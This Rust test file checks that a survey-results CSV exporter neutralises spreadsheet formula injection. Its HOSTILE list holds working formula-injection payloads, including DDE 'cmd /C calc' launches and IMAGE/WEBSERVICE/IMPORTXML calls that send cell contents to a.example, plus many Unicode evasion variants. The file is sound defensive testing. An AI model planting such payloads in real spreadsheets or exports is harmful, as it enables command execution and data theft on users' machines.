//! Tables: no text of a person is ever a formula, and everything can be read out of them again.
//! Long because most of it are tables of what must not get through.

#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "in a test a surprise may end the test"
)]

mod returns_at_random;

use csv::ReaderBuilder;
use footing_core::{Answer, Timestamp};
use footing_interchange::returned::{Return, ReturnedResult, ReturnedScore, people};
use footing_interchange::table::{MOST_COLUMNS, long, text, wide};
use proptest::prelude::*;
use returns_at_random::untidy;

/// Texts that spreadsheet programs would act upon, or that make a table fall apart.
const HOSTILE: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://a.example\",\"click\")",
    "=IMPORTXML(\"http://a.example\",\"//a\")",
    "=IMAGE(\"http://a.example/\"&A1)",
    "=WEBSERVICE(\"http://a.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "=msexcel|'\\..\\..\\cmd.exe /c calc'!A0",
    "=rundll32|'url.dll,OpenURL a'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\r\n=1+1",
    "\t",
    "\r",
    "\n",
    "\0",
    "\u{b}=1",
    "\u{c}=1",
    "\u{1b}=1",
    "\u{7f}=1",
    "\u{85}=1",
    "\u{9b}=1",
    " =1+1",
    "   +1",
    "\u{a0}=1",
    "\u{3000}=1",
    "\u{2009}-1",
    "\u{2028}=1",
    "\u{2029}@a",
    "\"=1+1",
    "\"\"=1+1",
    "'=1+1",
    "''=1",
    " \" '=1",
    "\u{201c}=1",
    "\u{2018}-1",
    "«=1",
    "`=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫a",
    "⁼1",
    "⁺1",
    "₋1",
    "−1",
    "–1",
    "—1",
    "‑1",
    "\u{feff}=1",
    "\u{200b}=1",
    "\u{200e}=1",
    "\u{202e}=1",
    "\u{2066}+1",
    "\u{ad}=1",
    "\u{2060}@a",
    "a;=1+1",
    "a; =1+1",
    "a;\"=1+1",
    "a;;;@a",
    "a;\t=1",
    "a;＝1",
    ";-)",
    "a\n=1+1",
    "a\r\n=1+1",
    "a\",=1+1",
    "\",=1+1,\"",
    "a,\"=1+1\"",
    "a\"\r\n\"=1",
    "a\u{2028};=1",
    "\";",
    "\";\"",
    "a,;",
    "a,; \u{200b}",
    "=",
    "--",
];

const SIGNS: &str = "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−˗‐‑‒–—";

/// Whether a program could act upon a cell that begins like this; written apart from the code it tests.
fn acts(cell: &str) -> bool {
    let rest = cell.trim_start_matches(|c: char| {
        (c.is_whitespace() && !c.is_control())
            || "\"'`´«»＂＇‘’‚‛“”„‟\u{feff}\u{ad}\u{61c}\u{180e}".contains(c)
            || ('\u{200b}'..='\u{200f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2060}'..='\u{206f}').contains(&c)
    });
    // An apostrophe first of all is what makes a cell a text.
    !cell.starts_with('\'') && rest.starts_with(|c: char| c.is_control() || SIGNS.contains(c))
}

/// The cells, as a program takes them apart that separates them like this.
fn cells(csv: &str, separator: u8) -> Vec<Vec<String>> {
    let csv = csv.strip_prefix('\u{feff}').unwrap();
    let mut reader = ReaderBuilder::new();
    reader
        .has_headers(false)
        .flexible(true)
        .delimiter(separator);
    let rows = reader.from_reader(csv.as_bytes()).into_records();
    rows.map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Whether no program acts upon any cell. Numbers of ours are no texts.
fn check_harmless(csv: &str) {
    assert!(csv.ends_with("\r\n"));
    for separator in [b',', b';', b'\t'] {
        for cell in cells(csv, separator).iter().flatten() {
            let is_number = separator == b',' && cell.parse::<f64>().is_ok();
            assert!(
                is_number || !acts(cell),
                "{cell:?} at {}",
                char::from(separator)
            );
        }
    }
    // A row is a line, whatever a program thinks of quotation marks.
    let lines: Vec<_> = csv.split("\r\n").collect();
    assert_eq!(lines.len() - 1, cells(csv, b',').len());
    assert!(
        lines
            .iter()
            .all(|line| !line.contains(|c: char| c.is_control()))
    );
}

fn with(words: &str) -> Return {
    let text = || words.to_owned();
    let score = ReturnedScore {
        id: text(),
        title: text(),
        value: Some(-2.5),
        min: -3.0,
        max: 3.0,
    };
    let answers = [
        (text(), Answer::Text(text())),
        (
            "b".to_owned(),
            Answer::Several([text()].into_iter().collect()),
        ),
        ("c".to_owned(), Answer::Value(-4)),
    ];
    Return {
        invite: text(),
        name: text(),
        made_at: Timestamp::from_ms(0),
        results: vec![ReturnedResult {
            id: text(),
            instrument: text(),
            edition: 1,
            title: text(),
            word: text(),
            finished_at: Timestamp::from_ms(0),
            offset_minutes: -60,
            scores: vec![score],
            answers: Some(answers.into_iter().collect()),
        }],
        line: text(),
    }
}

#[test]
fn no_text_is_a_formula_in_any_column() {
    for words in HOSTILE {
        let cell = text(words);
        assert!(!acts(&cell), "{words:?} {cell:?}");
        let returns = [with(words)];
        let people = people(&returns);
        check_harmless(&long(&people));
        check_harmless(&wide(&people).csv);
    }
    // Otherwise the test would prove nothing.
    let harmful = HOSTILE.iter().filter(|words| acts(words)).count();
    assert!(harmful >= 60, "{harmful}");
}

#[test]
fn texts_that_do_no_harm_stay_as_they_are() {
    for words in [
        "",
        "River 7",
        "a=b",
        "1-2",
        "it's",
        "\"quoted\"",
        "a, b",
        "a;b",
        "me@a.example",
        "3 + 4",
        "…",
        "'til Monday",
        "(=1)",
        "é",
        "日本",
        "a -b",
        "a,=b",
    ] {
        assert_eq!(text(words), words);
    }
    for (words, expected) in [
        ("=1", "'=1"),
        (" =1", "' =1"),
        ("\"=1", "'\"=1"),
        ("'=1", "''=1"),
        ("-5", "'-5"),
        ("a;=1", "a;'=1"),
        ("a;-)", "a;'-)"),
        ("a, b;", "a, b;'"),
        ("a;", "a;"),
        ("a\r\nb\tc", "a  b c"),
        ("\tb", "' b"),
    ] {
        assert_eq!(text(words), expected);
    }
}

#[test]
fn tables_look_like_this() {
    let mut one = with("x");
    one.name = "A, \"B\"".to_owned();
    one.results[0].finished_at = Timestamp::parse("2026-11-21T00:30:00Z").unwrap();
    let returns = [one];
    let people = people(&returns);
    let of =
        "\"A, \"\"B\"\"\",x,1970-01-01T00:00:00.000Z,x,x,1,x,x,2026-11-21T00:30:00.000Z,2026-11-20";
    let names =
        "name,invite,returned_at,result,instrument,edition,title,word,finished_at,finished_on";
    assert_eq!(
        long(&people),
        format!(
            "\u{feff}{names},row,id,label,kind,value,text,min,max\r\n\
             {of},score,x,x,number,-2.5,,-3,3\r\n\
             {of},answer,b,,options,,x,,\r\n\
             {of},answer,c,,number,-4,,,\r\n\
             {of},answer,x,,text,,x,,\r\n"
        )
    );
    let wide = wide(&people);
    assert_eq!(wide.left_out, 0);
    assert_eq!(
        wide.csv,
        format!(
            "\u{feff}{names},x:1:score:x,x:1:item:b,x:1:item:c,x:1:item:x\r\n{of},-2.5,x,-4,x\r\n"
        )
    );
    assert_eq!(long(&[]).lines().count(), 1);
}

#[test]
fn no_number_of_instruments_makes_the_wide_table_too_wide() {
    let mut returns = vec![with("real"), with("real")];
    returns[1].results[0].id = "another".to_owned();
    for at in 0..400 {
        returns.push(with(&format!("made-up-{at}")));
    }
    let wide = wide(&people(&returns));
    // Each has a score and three items.
    assert_eq!(wide.left_out, 401 * 4 - MOST_COLUMNS);
    let rows = cells(&wide.csv, b',');
    assert!(rows.iter().all(|row| row.len() == 10 + MOST_COLUMNS));
    assert!(rows[0].contains(&"real:1:score:real".to_owned()));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn whatever_is_sent_is_harmless_and_all_there(returns in prop::collection::vec(untidy(), 0..3)) {
        let people = people(&returns);
        let (long, wide) = (long(&people), wide(&people));
        check_harmless(&long);
        check_harmless(&wide.csv);
        let results: usize = people.iter().map(|it| it.results.len()).sum();
        prop_assert_eq!(cells(&wide.csv, b',').len(), results + 1);
        let found = cells(&long, b',');
        let sent = people.iter().flat_map(|it| &it.results);
        let rows = sent.flat_map(|it| {
            let result = it.result;
            let scores = result.scores.iter().map(|it| it.value);
            let answers = result.answers.iter().flat_map(|all| all.iter());
            scores.chain(answers.map(|(_, answer)| match answer {
                Answer::Value(value) => Some(f64::from(*value)),
                _ => None,
            }))
        });
        let rows: Vec<_> = rows.collect();
        prop_assert_eq!(found.len(), rows.len() + 1);
        for (row, value) in found[1..].iter().zip(rows) {
            prop_assert_eq!(row[14].parse().ok(), value);
        }
    }

    #[test]
    fn an_apostrophe_is_all_that_is_added(words: String) {
        let cell = text(&words);
        prop_assert!(!acts(&cell));
        let plain: String = words.chars().map(|c| {
            if c.is_control() || c == '\u{2028}' || c == '\u{2029}' { ' ' } else { c }
        }).collect();
        prop_assert_eq!(cell.replace('\'', ""), plain.replace('\'', ""));
    }
}
